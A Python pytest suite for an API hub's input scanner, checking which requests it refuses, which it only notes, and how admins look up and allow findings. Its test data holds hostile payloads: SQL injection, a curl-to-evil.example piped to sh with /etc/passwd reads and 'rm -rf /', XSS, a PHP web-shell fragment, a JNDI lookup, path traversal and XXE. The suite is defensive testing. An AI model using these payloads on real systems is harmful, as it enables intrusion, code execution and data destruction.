"""The input scanner in the whole hub: what it refuses, what passes, what an admin does about it."""

from __future__ import annotations

import base64
import http.server
import json
import os
import re
import signal
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest

from tests.system.hub import HubProcess, Reply, Upstreams

EXTRA = """
[scanner]
form = "block"
[apis.echo]
prefix = "/apis/echo"
url = "http://127.0.0.1:{port}"
"""
ATTACK = "/apis/echo/{}?q=1'%20OR%201=1--"
FINDING = re.compile(r"[0-9a-f]{16}")


class Echo(http.server.BaseHTTPRequestHandler):
    """Says that it was reached."""

    protocol_version = "HTTP/1.1"
    reached = 0

    def do_any(self) -> None:
        self.rfile.read(int(self.headers.get("content-length") or 0))
        type(self).reached += 1
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("cache-control", "no-store")
        self.send_header("content-length", "2")
        self.end_headers()
        self.wfile.write(b"{}")

    do_GET = do_POST = do_any  # noqa: N815

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def echo(
    engine: str, upstreams: Upstreams, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[HubProcess]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Echo)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    folder = tmp_path_factory.mktemp(f"scanner-{engine}")
    extra = EXTRA.format(port=server.server_address[1])
    with HubProcess(folder, upstreams, engine=engine, extra=extra) as hub:
        yield hub
    server.shutdown()


def until(check: Callable[[], Any], seconds: float = 20.0) -> Any:
    end = time.monotonic() + seconds
    while True:
        with suppress(OSError, KeyError, ValueError):
            if found := check():
                return found
        assert time.monotonic() < end, "it did not happen in time"
        time.sleep(0.05)


def processes(hub: HubProcess, role: str) -> list[int]:
    return [
        one["pid"]
        for one in hub.get("/admin/api/v1/status").json["processes"]
        if one["role"] == role and os.path.exists(f"/proc/{one['pid']}")
    ]


def answered(hub: HubProcess, path: str, workers: list[int]) -> tuple[int, int]:
    """(the worker that answered, its status): whose the other end of the connection is."""
    connection = http.client.HTTPConnection("127.0.0.1", hub.port, timeout=10)
    try:
        connection.request("GET", path, headers={"authorization": f"Bearer {hub.key}"})
        answer = connection.getresponse()
        ends = f":{hub.port:04X}", f":{connection.sock.getsockname()[1]:04X}"
        rows = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
        (node,) = (row[9] for row in rows if row[1].endswith(ends[0]) and row[2].endswith(ends[1]))
        for pid in workers:
            for end in Path(f"/proc/{pid}/fd").iterdir():
                with suppress(FileNotFoundError):
                    if end.readlink() == Path(f"socket:[{node}]"):
                        return pid, answer.status
        raise AssertionError("no worker holds the connection")
    finally:
        connection.close()


def refused(reply: Reply) -> str:
    """The finding's id of a refusal."""
    assert reply.status == 400, reply.text
    assert reply.headers["content-type"] == "application/problem+json"
    assert reply.json["code"] == "input_refused"
    name = reply.headers["x-pihub-finding"]
    assert FINDING.fullmatch(name)
    assert name in reply.json["title"], "people read the body, not the headers"
    return name


def looked_up(hub: HubProcess, name: str) -> dict[str, Any]:
    def ask() -> Any:
        reply = hub.get(f"/admin/api/v1/security/findings/{name}")
        return reply.json if reply.status == 200 else None

    found: dict[str, Any] = until(ask)
    assert found["id"] == name
    assert found["blocked"] is True
    return found


def test_an_attack_is_refused_and_can_be_looked_up(echo: HubProcess) -> None:
    assert echo.get("/apis/echo/a?q=1&sort=name").status == 200
    before = Echo.reached
    name = refused(echo.get(ATTACK.format("a")))
    assert Echo.reached == before, "it went upstream"
    found = looked_up(echo, name)
    assert (found["kind"], found["place"], found["field"]) == ("sql", "query", "q")
    assert found["path"] == "/apis/echo/a"
    assert name in [row["id"] for row in echo.get("/admin/api/v1/security/findings").json["items"]]
    assert "1=1" not in json.dumps(found), "a value may be a secret: none is kept"
    assert echo.get("/admin/api/v1/security/findings/0123456789abcdef").status == 404
    assert (found["tenant"], found["key"] > 0) == (1, True), "whose it was"
    # The same without a key: judged before anything else looks at the request.
    stranger = looked_up(echo, refused(echo.get(ATTACK.format("a"), authorization="")))
    assert (stranger["tenant"], stranger["key"]) == (0, 0)
    blocked = re.search(r"pihub_scanner_blocked_total (\d+)", echo.get("/metrics").text)
    assert blocked is not None
    assert int(blocked[1]) >= 2


def test_a_refusal_is_among_the_requests(echo: HubProcess) -> None:
    name = refused(echo.get(ATTACK.format("row")))

    def row() -> Any:
        rows = echo.get("/admin/api/v1/requests?limit=50").json["items"]
        return next((one for one in rows if name in json.dumps(one)), None)

    found = until(row)
    assert found["status"] == 400
    assert found["error"] == "input_refused"


def test_the_screen_shows_findings_and_what_is_allowed(echo: HubProcess) -> None:
    name = refused(echo.get(ATTACK.format("screen")))
    looked_up(echo, name)
    page = echo.get("/dashboard/security").text.replace("<wbr>", "")
    assert name in page
    assert "quote-then-clause" in page or "tautology" in page
    assert name in echo.get("/dashboard/security?show=refused&kind=sql").text
    assert name not in echo.get("/dashboard/security?show=noted").text
    assert name not in echo.get("/dashboard/security?kind=xss").text


@pytest.mark.parametrize("chunked", [False, True])
def test_a_body_is_judged_whole_or_refused(echo: HubProcess, chunked: bool) -> None:
    """JSON is only noted about by default; none the less nothing passes unseen."""

    def post(size: int, path: str, kind: str = "application/json") -> int:
        data = json.dumps({"a": "x" * size, "b": "1' or 1=1-- <script>alert(1)</script>"}).encode()
        connection = http.client.HTTPConnection("127.0.0.1", echo.port, timeout=20)
        headers = {"authorization": f"Bearer {echo.key}", "content-type": kind}
        body: Any = iter([data[:70_000], data[70_000:]]) if chunked else data
        connection.request("POST", path, body, headers, encode_chunked=chunked)
        status = connection.getresponse().status
        connection.close()
        return status

    path = f"/apis/echo/large-{chunked}"
    assert post(600_000, path) == 200
    assert post(1_100_000, path) == 413

    def noted() -> bool:
        rows = echo.get("/admin/api/v1/security/findings").json["items"]
        return any(one["path"] == path and not one["blocked"] for one in rows)

    assert until(noted)


def test_findings_outlive_kill_9(echo: HubProcess) -> None:
    workers = processes(echo, "worker")
    names = [refused(echo.get(ATTACK.format(f"worker/{i}"))) for i in range(4)]
    for pid in workers:
        os.kill(pid, signal.SIGKILL)
    until(lambda: len(set(processes(echo, "worker")) - set(workers)) == len(workers))
    for i, name in enumerate(names):
        assert looked_up(echo, name)["path"] == f"/apis/echo/worker/{i}"
    (control,) = processes(echo, "control")
    names.append(refused(echo.get(ATTACK.format("control"))))
    os.kill(control, signal.SIGKILL)
    # While nobody stores them, the workers keep them.
    names.append(refused(echo.get(ATTACK.format("meanwhile"))))
    until(lambda: processes(echo, "control") not in ([], [control]))
    paths = [looked_up(echo, name)["path"] for name in names]
    assert paths[-2:] == ["/apis/echo/control", "/apis/echo/meanwhile"]


def test_an_allowance_holds_in_every_worker(echo: HubProcess) -> None:
    path = ATTACK.format("allowed")
    name = refused(echo.get(path))
    reply = echo.admin("POST", "/security/allowances", {"finding": name})
    assert reply.status == 200, reply.text
    until(lambda: echo.get(path).status == 200, 5)
    workers = processes(echo, "worker")
    seen = dict[int, set[int]]()
    with ThreadPoolExecutor(8) as pool:

        def every() -> bool:
            for pid, status in pool.map(lambda _: answered(echo, path, workers), range(16)):
                seen.setdefault(pid, set()).add(status)
            return set(workers) <= set(seen)

        until(every)
    assert seen == {pid: {200} for pid in workers}
    # Nothing but exactly this passes: not another path, field or rule.
    refused(echo.get(ATTACK.format("other")))
    refused(echo.get(path.replace("q=", "r=")))
    refused(echo.get("/apis/echo/allowed?q=%3Cscript%3Ealert(1)%3C/script%3E"))
    old = processes(echo, "control")
    os.kill(old[0], signal.SIGKILL)
    until(lambda: processes(echo, "control") not in ([], old))
    assert echo.get(path).status == 200
    assert echo.admin("DELETE", f"/security/allowances/{reply.json['id']}").status == 200
    until(lambda: echo.get(path).status == 400, 5)


PROMPTS = {
    "SQL": "Why is this slow? SELECT * FROM users WHERE name = '' OR 1=1-- ; DROP TABLE users;"
    " UNION ALL SELECT null, password FROM staff; EXEC xp_cmdshell('dir')",
    "shell": "Explain: curl http://evil.example/x | sh; cat /etc/passwd && rm -rf / $(id) `whoami`",
    "HTML": "Fix this: <script>alert(document.cookie)</script><img src=x onerror=alert(1)>"
    " <a href='javascript:alert(1)'>x</a> <?php system($_GET['c']); ?>",
    "others": '${jndi:ldap://evil.example/a} {{7*7}} ../../../../etc/shadow {"$ne": null}'
    ' <!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]> *)(uid=*))(|(uid=*',
}


@pytest.mark.parametrize("what", PROMPTS)
@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("path", ["/v1/chat/completions", "/v1/messages", "/api/chat"])
def test_prompts_are_never_judged(echo: HubProcess, path: str, stream: bool, what: str) -> None:
    text = PROMPTS[what]
    body: dict[str, Any] = {
        "model": "assistant",
        "stream": stream,
        "messages": [
            {"role": "user", "content": text},
            {"role": "assistant", "content": text},
            {"role": "user", "content": f"{text} And now?"},
        ],
    }
    if path == "/v1/messages":
        body["max_tokens"] = 50
    reply = echo.post(path, body)
    assert reply.status == 200, reply.text
    assert "x-pihub-finding" not in reply.headers


def _part(value: dict[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")


JWT = (
    f"{_part({'alg': 'RS256', 'typ': 'JWT', 'kid': 'a1'})}."
    f"{_part({'iss': 'https://id.example/', 'sub': 'auth0|66f1', 'scope': 'openid email'})}."
    f"{base64.urlsafe_b64encode(bytes(range(256))).decode().rstrip('=')}"
)
CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/131.0.0.0 Safari/537.36"
)
BROWSER = {
    "user-agent": CHROME,
    "accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,"
    "image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
    "accept-language": "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7",
    "cache-control": "max-age=0",
    "sec-ch-ua": '"Google Chrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"',
    "sec-ch-ua-mobile": "?0",
    "sec-ch-ua-platform": '"Windows"',
    "sec-ch-ua-full-version-list": '"Not(A:Brand";v="99.0.0.0", "Chromium";v="131.0.6778.86"',
    "sec-fetch-dest": "document",
    "sec-fetch-mode": "navigate",
    "sec-fetch-site": "cross-site",
    "sec-fetch-user": "?1",
    "upgrade-insecure-requests": "1",
    "dnt": "1",
    "priority": "u=0, i",
    "referer": "https://www.google.com/search?q=select+hotel+from+list+%26+union+square"
    "&oq=it%27s+5+o%27clock&aqs=chrome..69i57j0i512l9&sourceid=chrome&ie=UTF-8",
    "cookie": "_ga=GA1.1.1234567890.1732800000; _ga_ABC123=GS1.1.1732800000.3.1.1732800100.60.0.0;"
    " session=.eJwlzjEOwzAIAMC_MHcwGIPJZyIMWO2aNFPVvzdSh1vuA3secb1h28d1-gP2V8AGXs19"
    ".Z0hGkg.q-1_Zx; csrftoken=Ab3xYz-_9; theme=dark; id=42; lang=en; cat=5; "
    "OptanonConsent=isGpcEnabled=0&datestamp=Sat+Nov+28+2026+21%3A00%3A00+GMT%2B0100+(Central"
    "+European+Standard+Time)&version=202409.1.0&browserGpcFlag=0&groups=C0001%3A1%2CC0002%3A0; "
    'prefs="{\\"a\\":1}"; '
    "intercom-session=WXlRZ1-LS1abc%3D%3D--3f2a; mp_x=%7B%22distinct_id%22%3A%20%22%24device%3A1"
    "93%22%2C%22%24initial_referrer%22%3A%20%22%24direct%22%7D; jwt=" + JWT,
}
CLIENTS = {
    "Chrome": BROWSER,
    "Firefox": {
        "user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
        "accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        "accept-language": "en-US,en;q=0.5",
        "te": "trailers",
        "if-none-match": 'W/"5f3a-18b2d6f"',
        "if-modified-since": "Sat, 28 Nov 2026 20:00:00 GMT",
        "referer": "http://192.168.1.20:8080/dashboard/requests?from=2026-11-28T19:00&order=desc",
        "cookie": "pihub=Zm9v-_YmFy.c2ln; i18n_redirected=en; wp-settings-1=libraryContent%3Dbrowse"
        "%26editor%3Dtinymce%26hidetb%3D1",
    },
    "Safari": {
        "user-agent": "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15"
        " (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
        "accept": "*/*",
        "origin": "https://app.example.org",
        "referer": "https://app.example.org/a/b;jsessionid=8F2A?next=%2Fhome%3Ftab%3D1#top",
        "range": "bytes=0-1",
    },
    "openai": {
        "user-agent": "OpenAI/Python 1.55.0",
        "accept": "application/json",
        "x-stainless-lang": "python",
        "x-stainless-package-version": "1.55.0",
        "x-stainless-os": "Linux",
        "x-stainless-arch": "arm64",
        "x-stainless-runtime": "CPython",
        "x-stainless-runtime-version": "3.11.2",
        "x-stainless-async": "false",
        "x-stainless-retry-count": "0",
        "x-stainless-raw-response": "true",
        "openai-organization": "org-AbC123",
        "idempotency-key": "stainless-python-retry-8f4b6a1e-1d0e-4c8f-9d5f-0f6f0c2f1b1a",
    },
    "anthropic": {
        "user-agent": "Anthropic/JS 0.32.1",
        "accept": "application/json",
        "anthropic-version": "2023-06-01",
        "anthropic-beta": "prompt-caching-2024-07-31,output-128k-2025-02-19",
        "anthropic-dangerous-direct-browser-access": "true",
        "x-stainless-lang": "js",
        "x-stainless-runtime": "node",
        "x-stainless-runtime-version": "v20.11.1",
    },
    "ollama": {
        "user-agent": "ollama-python/0.4.2 (aarch64 linux) Python/3.11.2",
        "accept": "application/json",
    },
    "curl": {"user-agent": "curl/7.88.1", "accept": "*/*", "x-note": "it's a test; id 5"},
    "wget": {"user-agent": "Wget/1.21.3", "accept": "*/*", "accept-encoding": "identity"},
    "httpx": {"user-agent": "python-httpx/0.27.2", "accept": "*/*"},
    "okhttp": {"user-agent": "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240805.005)"},
    "bot": {
        "user-agent": "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "from": "googlebot(at)googlebot.com",
    },
    "traced": {
        "traceparent": "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
        "tracestate": "congo=t61rcWkgMzE,rojo=00f067aa0ba902b7,dd=s:1;t.dm:-4;p:ab1",
        "baggage": "userId=alice,serverNode=DF%2028,isProduction=false;prop=1",
        "x-request-id": "8f4b6a1e-1d0e-4c8f-9d5f-0f6f0c2f1b1a",
        "x-forwarded-for": "203.0.113.7, 10.0.0.1",
        "forwarded": 'for="[2001:db8:cafe::17]:4711";proto=https;by=203.0.113.43',
        "via": "1.1 vegur, 1.1 proxy.example (squid/5.7)",
        "cf-visitor": '{"scheme":"https"}',
        "cf-ray": "8e9f1a2b3c4d5e6f-FRA",
        "x-amzn-trace-id": "Root=1-67891233-abcdef012345678912345678;Sampled=1",
        "sentry-trace": "771a43a4192642f0b136d5159a501700-7da0a4f2b2c0e3e1-1",
        "link": '<https://example.org/?page=2>; rel="next"',
        "x-b3-traceid": "80f198ee56343ba864fe8b2a57d3eff7",
    },
}


@pytest.mark.parametrize("client", CLIENTS)
def test_headers_of_ordinary_clients_pass(echo: HubProcess, client: str) -> None:
    headers = CLIENTS[client]
    # Behind a proxy there is no dashboard before there is an admin.
    pages = () if "x-forwarded-for" in headers else ("/dashboard",)
    for path in ("/v1/models", "/apis/echo/x?id=5", *pages):
        key = "" if path == "/dashboard" else f"Bearer {echo.key}"
        reply = echo.request("GET", path, **headers, authorization=key)
        assert "x-pihub-finding" not in reply.headers, reply.text
        assert reply.status in (200, 302, 303, 304), (path, reply.status, reply.text)
    # A token of somebody else's is an unknown key, not an attack.
    reply = echo.request("GET", "/v1/models", **headers, authorization=f"Bearer {JWT}")
    assert (reply.status, "x-pihub-finding" in reply.headers) == (401, False), reply.text
    findings = echo.get("/admin/api/v1/security/findings").json["items"]
    assert [row for row in findings if row["place"] == "header"] == [], "noted, though honest"


def test_every_place_that_blocks_and_bodies_that_only_note(echo: HubProcess) -> None:
    form = "application/x-www-form-urlencoded"
    path = "/apis/echo/places"
    honest = b"name=O%27Brien&note=select+a+hotel+or+a+room%3B+50%25+off&email=tom%40example.com"
    assert echo.request("POST", path, honest, content_type=form).status == 200
    replies = {
        "form": echo.request("POST", path, b"name=1%27+OR+1%3D1--", content_type=form),
        "header": echo.get(path, x_note="${jndi:ldap://evil.example/a}"),
        "path": echo.get("/apis/echo/places/.git/config"),
    }
    for place, reply in replies.items():
        assert refused(reply)
        assert reply.json["title"].startswith(f"the {place} holds"), place
        assert looked_up(echo, FINDING.findall(reply.json["title"])[0])["place"] == place
    # JSON may hold anything: it is noted.
    assert echo.post(path, {"name": "1' OR 1=1--"}).status == 200

    def noted() -> bool:
        rows = echo.get("/admin/api/v1/security/findings").json["items"]
        return any(row["place"] == "json" and not row["blocked"] for row in rows)

    until(noted)


def test_attacks_in_many_connections_at_once(echo: HubProcess) -> None:
    """Honest requests beside them pass."""

    def ask(i: int) -> int:
        return echo.get(ATTACK.format(f"many/{i}") if i % 2 else f"/apis/echo/many/{i}?q=1").status

    with ThreadPoolExecutor(8) as pool:
        statuses = list(pool.map(ask, range(80)))
    assert statuses == [200, 400] * 40
